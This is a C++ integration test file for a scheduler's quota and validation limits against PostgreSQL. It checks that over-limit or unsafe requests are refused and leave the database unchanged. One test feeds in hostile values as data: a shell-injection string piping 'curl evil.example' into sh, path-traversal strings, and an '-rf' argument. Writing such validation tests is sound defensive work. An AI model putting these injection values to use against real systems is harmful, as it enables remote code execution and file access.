// Over-limit requests against a real PostgreSQL 15 (issue 5, hostile
// input): each is refused with its code and the limit, and the database is
// byte for byte what it was before the call (every table that the call
// could write, as JSON).
//
// Services under test: scheduler::SweepService over db::PgSweepStore (the run
// and demo quotas, RESOURCE_EXHAUSTED; values that would become unsafe
// placeholder values, INVALID_ARGUMENT) and evaluation::EvaluationService over
// db::PgEvaluationStore (the trials-per-call quota). Time is a FakeClock.
#include <memory>
#include <optional>
#include <tuple>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <pqxx/pqxx>

#include "absl/status/status.h"
#include "absl/strings/str_cat.h"
#include "absl/time/time.h"
#include "db/connection_pool.h"
#include "db/migrations.h"
#include "db/pg_estimate_store.h"
#include "db/pg_evaluation_store.h"
#include "db/pg_job_store.h"
#include "db/pg_sweep_store.h"
#include "scheduler/change_signal.h"
#include "scheduler/clock.h"
#include "scheduler/evaluation/evaluation_service.h"
#include "scheduler/evaluation/spec_cache.h"
#include "scheduler/sweep_service.h"
#include "tests/support/example_specs.h"
#include "tests/pg/migrated_database.h"
#include "tests/support/pg_harness.h"

namespace mixsweep {
namespace {

using ::testing::HasSubstr;

// docs/examples/pick_dual_bottles.yaml: 18 runs, 21 jobs, 5100 demos in all.
constexpr const char* kPickDualBottles = mixsweep::testing::kPickDualBottlesYaml;

std::string Replace(std::string text, const std::string& from, const std::string& to) {
  const size_t at = text.find(from);
  EXPECT_NE(at, std::string::npos) << "no '" << from << "' in the spec";
  if (at == std::string::npos) return text;
  return text.replace(at, from.size(), to);
}

// The tables a sweep or an evaluation call writes.
constexpr const char* kTables[] = {"sweeps", "sweep_revisions", "runs", "jobs",
                                   "sweep_scenarios", "events", "idempotency_keys",
                                   "evaluation_requests", "trials", "stale_estimates",
                                   "utilization_estimates", "robots", "workers",
                                   "job_log_chunks"};

class LimitsPgTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dsn_ = testing::CreateTestDatabase();
    ASSERT_TRUE(testing::MigrateTestDatabase(dsn_));
    pool_ = std::make_unique<db::ConnectionPool>(dsn_, 4);
    sweep_store_ = std::make_unique<db::PgSweepStore>(*pool_);
    jobs_ = std::make_unique<db::PgJobStore>(*pool_);
    store_ = std::make_unique<db::PgEvaluationStore>(*pool_);
    estimates_ = std::make_unique<db::PgEstimateStore>(*pool_);
    specs_ = std::make_unique<evaluation::SpecCache>(*sweep_store_);
  }

  scheduler::SweepService Sweeps(int64_t max_runs = 10000,
                                 int64_t max_subset_episodes = 10000000) {
    return scheduler::SweepService(
        *sweep_store_, {.limits = {.max_runs = max_runs,
                                   .max_subset_episodes = max_subset_episodes}});
  }

  // Every row of every table the calls could write, as JSON text.
  std::string Everything() {
    std::string out;
    for (const char* table : kTables) {
      absl::StrAppend(&out, table, ": ",
                      testing::SqlText(dsn_, absl::StrCat("SELECT coalesce(json_agg(t ORDER BY "
                                                          "t::text)::text, '[]') FROM ",
                                                          table, " t")),
                      "\n");
    }
    return out;
  }
  int64_t Count(const std::string& table) {
    return testing::SqlCount(dsn_, absl::StrCat("SELECT count(*) FROM ", table));
  }

  std::string dsn_;
  std::unique_ptr<db::ConnectionPool> pool_;
  std::unique_ptr<db::PgSweepStore> sweep_store_;
  std::unique_ptr<db::PgJobStore> jobs_;
  std::unique_ptr<db::PgEvaluationStore> store_;
  std::unique_ptr<db::PgEstimateStore> estimates_;
  std::unique_ptr<evaluation::SpecCache> specs_;
  scheduler::ChangeSignal trials_changed_;
  scheduler::FakeClock clock_{absl::FromUnixSeconds(1'700'000'000)};
};

TEST_F(LimitsPgTest, SubmitOverTheRunQuotaStoresNothing) {
  const std::string before = Everything();
  for (bool validate_only : {false, true}) {
    auto submitted = Sweeps(/*max_runs=*/17).Submit(kPickDualBottles, validate_only,
                                                    {"alice", "key-1"});
    ASSERT_FALSE(submitted.ok());
    EXPECT_EQ(submitted.status().code(), absl::StatusCode::kResourceExhausted);
    EXPECT_THAT(submitted.status().message(),
                HasSubstr("18 runs (3 N_tele values x (1 baseline + 1 mixed) x 3 seeds), more "
                          "than the limit of 17 runs per sweep"));
  }
  EXPECT_EQ(Everything(), before);
  EXPECT_EQ(Count("sweeps"), 0);
  // The key was not spent: the same key with a sweep within the quota works.
  auto ok = Sweeps(/*max_runs=*/18).Submit(kPickDualBottles, false, {"alice", "key-1"});
  ASSERT_TRUE(ok.ok()) << ok.status();
  EXPECT_FALSE(ok->replayed);
  EXPECT_EQ(Count("runs"), 18);
}

TEST_F(LimitsPgTest, SubmitOverTheDemoQuotaStoresNothing) {
  const std::string before = Everything();
  auto submitted =
      Sweeps(10000, /*max_subset_episodes=*/5099).Submit(kPickDualBottles, false, {"alice", "k"});
  ASSERT_FALSE(submitted.ok());
  EXPECT_EQ(submitted.status().code(), absl::StatusCode::kResourceExhausted);
  EXPECT_THAT(submitted.status().message(),
              HasSubstr("train on 5100 demos in all (the sum of N over its jobs), more than the "
                        "limit of 5099 per sweep"));
  EXPECT_EQ(Everything(), before);
}

// Before issue 5 this spec was valid, and expanding it reserved 8e15 bytes.
TEST_F(LimitsPgTest, SubmitWithAGiganticSubsetIsRefusedBeforeExpansion) {
  std::string yaml = Replace(kPickDualBottles, "n_tele: [50, 100, 200]",
                             "n_tele: [50, 100, 1000000000000000]");
  yaml = Replace(yaml, "episodes: 200", "episodes: 1000000000000000");
  const std::string before = Everything();
  auto submitted = Sweeps().Submit(yaml, false, {"alice", "k"});
  ASSERT_FALSE(submitted.ok());
  EXPECT_EQ(submitted.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(submitted.status().message(),
              HasSubstr("teleop.n_tele[2]: 1000000000000000 demos; at most 1000000 per job"));
  EXPECT_EQ(Everything(), before);
}

TEST_F(LimitsPgTest, ExtendOverTheRunQuotaChangesNothing) {
  auto submitted = Sweeps(/*max_runs=*/20).Submit(kPickDualBottles, false, {"alice", "k1"});
  ASSERT_TRUE(submitted.ok()) << submitted.status();
  const std::string before = Everything();
  // Seed 3 adds 6 runs: 24 in all, over 20.
  const std::string more = Replace(kPickDualBottles, "seeds: [0, 1, 2]", "seeds: [0, 1, 2, 3]");
  auto extended = Sweeps(/*max_runs=*/20).Extend(submitted->sweep_id, more, false, {"alice", "k2"});
  ASSERT_FALSE(extended.ok());
  EXPECT_EQ(extended.status().code(), absl::StatusCode::kResourceExhausted);
  EXPECT_THAT(extended.status().message(), HasSubstr("24 runs"));
  EXPECT_EQ(Everything(), before);
  EXPECT_EQ(testing::SqlCount(dsn_, "SELECT max(revision) FROM sweeps"), 1);
}

// Values that would become unsafe placeholder values: refused at submission,
// before anything is stored (the worker would refuse them too, later).
TEST_F(LimitsPgTest, SubmitWithAnUnsafePlaceholderValueStoresNothing) {
  const std::string before = Everything();
  for (const auto& [from, to, field] : std::vector<std::tuple<std::string, std::string, std::string>>{
           {"policy: diffusion_policy", "policy: \"dp; curl evil.example | sh\"", "policy:"},
           {"  name: pick_dual_bottles", "  name: \"../../etc\"", "task.name:"},
           {"uri: file:///data/aloha-agilex/pick_dual_bottles/teleop",
            "uri: \"file:///data/%252e%252e/etc\"", "teleop.dataset.uri:"},
           {"code_version: git:4f1c2e9", "code_version: \"-rf\"", "code_version:"}}) {
    auto submitted =
        Sweeps().Submit(Replace(kPickDualBottles, from, to), false, {"alice", "k-" + field});
    ASSERT_FALSE(submitted.ok()) << to;
    EXPECT_EQ(submitted.status().code(), absl::StatusCode::kInvalidArgument);
    EXPECT_THAT(submitted.status().message(), HasSubstr(field)) << to;
  }
  EXPECT_EQ(Everything(), before);
}

// Trials per RecordTrials call are a quota: over it, RESOURCE_EXHAUSTED with
// the limit, and not one of the trials (nor a stale mark, an event or the
// idempotency key) is stored.
TEST_F(LimitsPgTest, RecordTrialsOverTheQuotaStoresNothing) {
  // One run: one train job, three evaluation requests of 10 trials.
  std::string yaml = Replace(kPickDualBottles, "n_tele: [50, 100, 200]", "n_tele: [50]");
  yaml = Replace(yaml, "n_nt: [0, 1000]", "n_nt: [0]");
  yaml = Replace(yaml, "seeds: [0, 1, 2]", "seeds: [0]");
  auto submitted = Sweeps().Submit(yaml, false, {"alice", ""});
  ASSERT_TRUE(submitted.ok()) << submitted.status();
  scheduler::WorkerRecord worker{.name = "gpu-node-1", .host = "gpu-node-1.lab"};
  worker.gpus.push_back({.index = 0, .name = "NVIDIA H100 80GB HBM3", .memory_total_mib = 81559});
  auto worker_id = jobs_->RegisterWorker(worker, "", clock_.Now());
  ASSERT_TRUE(worker_id.ok()) << worker_id.status();
  auto leased = jobs_->Lease({.worker_id = *worker_id,
                              .free_gpu_indices = {0},
                              .ttl = absl::Seconds(60),
                              .artifact_root = "file:///nfs/artifacts"},
                             clock_.Now());
  ASSERT_TRUE(leased.ok() && leased->has_value()) << leased.status();
  auto done = jobs_->Complete({.lease = (*leased)->lease,
                               .checkpoint_uri = "file:///nfs/artifacts/job-1/latest.ckpt",
                               .gpu_seconds = 60},
                              clock_.Now());
  ASSERT_TRUE(done.ok()) << done.status();
  const int64_t request_id = testing::SqlCount(
      dsn_, "SELECT min(id) FROM evaluation_requests WHERE scenario = 'in_domain'");
  ASSERT_GT(request_id, 0);

  evaluation::EvaluationService service(*store_, *estimates_, *specs_, trials_changed_,
                                        {.max_trials_per_request = 5});
  std::vector<evaluation::TrialValues> six;
  for (int i = 0; i < 6; ++i) {
    six.push_back({.trial_index = i, .operator_name = "ana", .robot_id = "aloha-1"});
  }
  const std::string before = Everything();
  auto recorded = service.RecordTrials({.request_id = request_id, .trials = six}, {"ana", "t1"});
  ASSERT_FALSE(recorded.ok());
  EXPECT_EQ(recorded.status().code(), absl::StatusCode::kResourceExhausted);
  EXPECT_EQ(recorded.status().message(),
            "trials: 6 trials in one call; at most 5 per RecordTrials call (send them in "
            "several)");
  EXPECT_EQ(Everything(), before);
  EXPECT_EQ(Count("trials"), 0);

  // Within the quota, the same key records them.
  six.pop_back();
  auto ok = service.RecordTrials({.request_id = request_id, .trials = six}, {"ana", "t1"});
  ASSERT_TRUE(ok.ok()) << ok.status();
  EXPECT_EQ(Count("trials"), 5);
}

}  // namespace
}  // namespace mixsweep
